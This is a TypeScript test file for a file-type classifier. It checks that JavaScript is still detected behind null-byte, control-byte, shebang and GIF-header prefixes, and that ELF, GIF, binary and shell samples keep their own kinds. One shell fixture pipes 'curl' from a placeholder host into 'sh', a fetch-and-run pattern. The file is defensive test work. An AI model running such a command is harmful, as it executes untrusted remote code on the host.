import { expect, test } from 'vitest';
import { sampleOf } from './sample.ts';

const CODE = 'require("https").get("https://one.fixture.example/");';
const kindOf = (bytes: string, name = 'sample.js'): string => sampleOf(name, Buffer.from(bytes, 'latin1')).kind;

test('code is code whatever stands before it', () => {
  for (const [what, before] of [
    ['zeros in a comment', `/*${'\0'.repeat(60)}*/`],
    ['other control bytes', `/*${'\x01'.repeat(60)}*/`],
    ['high bytes', `/*${'\x80\xff'.repeat(60)}*/`],
    ['a shell to start it', '#!/bin/sh\n'],
    ['the first letters of a picture', 'GIF89a/*x*/=1;'],
  ] as const) {
    expect(kindOf(before + CODE), what).toBe('javascript');
    expect(sampleOf('sample.js', Buffer.from(before + CODE, 'latin1')).text, what).toContain('one.fixture.example');
  }
});

test('what is something else stays it', () => {
  expect(kindOf('\x7fELF\x02\x01\x01\0\0\0')).toBe('elf');
  expect(kindOf('\0\x01\x02\x03'.repeat(40))).toBe('binary');
  expect(kindOf('GIF89a\x01\0\x01\0\x80\0\0', 'a.gif')).toBe('gif');
  expect(kindOf('#!/bin/sh\ncurl https://one.fixture.example/ | sh\n')).toBe('shell');
  expect(kindOf('#!/bin/sh\necho(1)\n', 'a.sh')).toBe('shell');
  expect(kindOf('', 'a.js')).toBe('empty');
});
